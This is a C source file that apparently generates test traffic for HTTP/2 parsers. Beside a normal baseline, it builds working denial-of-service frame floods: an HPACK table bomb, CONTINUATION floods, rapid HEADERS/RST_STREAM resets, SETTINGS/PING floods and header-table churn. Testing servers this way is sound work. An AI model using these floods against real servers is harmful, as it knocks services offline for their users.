/*
 * Attacks on whoever reads HTTP/2: every packet holds as many frames as fit, all of
 * them by the client.
 */
#include <stdlib.h>
#include <string.h>

#include "attacks.h"

#define ROOM        1400U
#define CONNECTIONS 1000U

enum {
	DATA,
	HEADERS,
	PRIORITY,
	RST_STREAM,
	SETTINGS,
	PUSH,
	PING,
	GOAWAY,
	WINDOW,
	CONTINUATION
};
enum { END_STREAM = 1, END_HEADERS = 4 };

static uint8_t bytes[8192];
static size_t used;

static void begin(void)
{
	used = 0;
}

static void frame(unsigned type, unsigned flags, uint32_t stream, const void *payload,
		  size_t len)
{
	uint8_t *at = bytes + used;

	at[0] = (uint8_t)(len >> 16);
	at[1] = (uint8_t)(len >> 8);
	at[2] = (uint8_t)len;
	at[3] = (uint8_t)type;
	at[4] = (uint8_t)flags;
	for (unsigned i = 0; i < 4; i++)
		at[5 + i] = (uint8_t)(stream >> (24 - 8 * i));
	if (len > 0)
		memcpy(at + 9, payload, len);
	used += 9 + len;
}

static void preface(void)
{
	static const char text[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

	memcpy(bytes + used, text, sizeof(text) - 1);
	used += sizeof(text) - 1;
	frame(SETTINGS, 0, 0, NULL, 0);
}

/* What the connections have sent; the first packets are their prefaces. */
static uint32_t *sent;

static void begin_all(void)
{
	sent = calloc(CONNECTIONS, sizeof(*sent));
	if (!sent)
		exit(1);
}

static void send_on(uint64_t connection)
{
	struct pair p = pair_number(connection);

	tcp(&p, false, 16, 1 + sent[connection], 1, bytes, used);
	sent[connection] += (uint32_t)used;
}

/* GET / of a.test: static entries, and a literal that goes into no table. */
static const uint8_t request_block[] = {0x82, 0x86, 0x84, 0x01, 6,  'a',
					'.',  't',  'e',  's',  't'};

/* A literal with its name that goes into the table: `len` bytes of value, below 16,384
 * and over 127. */
static size_t literal(uint8_t *at, char letter, size_t len)
{
	at[0] = 0x40;
	at[1] = 1;
	at[2] = (uint8_t)letter;
	at[3] = 0x7f;
	at[4] = (uint8_t)((len - 127) & 0x7f) | 0x80;
	at[5] = (uint8_t)((len - 127) >> 7);
	memset(at + 6, letter, len);
	return 6 + len;
}

/* Requests as a browser sends them: the first one with every field, which fill the
 * table, and then a reference for each of 11. */
void http2_normal(uint64_t n)
{
	static uint8_t block[ROOM], references[16] = {0x82, 0x86, 0x84};
	uint32_t *next = calloc(CONNECTIONS, sizeof(*next));
	size_t len = 3;

	begin_all();
	if (!next)
		exit(1);
	memcpy(block, references, 3);
	for (char c = 'a'; c < 'a' + 8; c++)
		len += literal(block + len, c, 128);
	for (uint8_t i = 0; i < 8; i++)
		references[3 + i] = 0xbe + i;
	for (uint64_t i = 0; i < n; i++) {
		uint64_t c = i % CONNECTIONS;

		begin();
		if (i < CONNECTIONS) {
			preface();
			frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * next[c]++,
			      block, len);
		}
		while (i >= CONNECTIONS && used + 20 <= ROOM)
			frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * next[c]++,
			      references, 11);
		send_on(c);
	}
	free(next);
}

void http2_table_bomb(uint64_t n)
{
	static uint8_t block[4096], references[ROOM];

	begin_all();
	memset(references, 0xbe, sizeof(references)); /* the newest entry */
	memcpy(references, request_block, sizeof(request_block));
	for (uint64_t i = 0; i < n; i++) {
		uint32_t stream = 1 + 2 * (uint32_t)(i / CONNECTIONS);

		begin();
		if (i < CONNECTIONS) {
			preface();
			frame(HEADERS, END_STREAM | END_HEADERS, stream, block,
			      literal(block, 'x', 4000));
		} else {
			frame(HEADERS, END_STREAM | END_HEADERS, stream, references,
			      ROOM - 9);
		}
		send_on(i % CONNECTIONS);
	}
}

void http2_continuations(uint64_t n)
{
	static uint8_t block[ROOM];
	size_t len = 0;

	begin_all();
	while (len + 210 < ROOM - 9)
		len += literal(block + len, 'y', 200);
	for (uint64_t i = 0; i < n; i++) {
		begin();
		if (i < CONNECTIONS) {
			preface();
			frame(HEADERS, END_STREAM, 1, request_block,
			      sizeof(request_block));
		} else {
			frame(CONTINUATION, 0, 1, block, len);
		}
		send_on(i % CONNECTIONS);
	}
}

void http2_resets(uint64_t n)
{
	static const uint8_t cancel[4] = {0, 0, 0, 8};
	uint32_t *next = calloc(CONNECTIONS, sizeof(*next));

	begin_all();
	if (!next)
		exit(1);
	for (uint64_t i = 0; i < n; i++) {
		uint64_t c = i % CONNECTIONS;

		begin();
		if (i < CONNECTIONS)
			preface();
		while (used + 33 < ROOM) {
			uint32_t stream = 1 + 2 * next[c]++;

			frame(HEADERS, END_STREAM | END_HEADERS, stream, request_block,
			      sizeof(request_block));
			frame(RST_STREAM, 0, stream, cancel, sizeof(cancel));
		}
		send_on(c);
	}
	free(next);
}

void http2_settings(uint64_t n)
{
	static const uint8_t table[6] = {0, 1, 0xff, 0xff, 0xff, 0xff};
	static const uint8_t ping[8];

	begin_all();
	for (uint64_t i = 0; i < n; i++) {
		begin();
		if (i < CONNECTIONS)
			preface();
		while (used + 50 < ROOM) {
			frame(SETTINGS, 0, 0, table, sizeof(table));
			frame(SETTINGS, 0, 0, NULL, 0);
			frame(PING, 0, 0, ping, sizeof(ping));
		}
		send_on(i % CONNECTIONS);
	}
}

void http2_streams(uint64_t n)
{
	static uint8_t block[ROOM];

	begin_all();
	for (uint64_t i = 0; i < n; i++) {
		size_t len = sizeof(request_block);

		begin();
		if (i < CONNECTIONS)
			preface();
		memcpy(block, request_block, len);
		/* Entries of its own for each stream: tables turn over. */
		len += literal(block + len, (char)('a' + i % 26), 1200);
		frame(HEADERS, END_HEADERS, 1 + 2 * (uint32_t)(i / CONNECTIONS), block,
		      len);
		send_on(i % CONNECTIONS);
	}
}
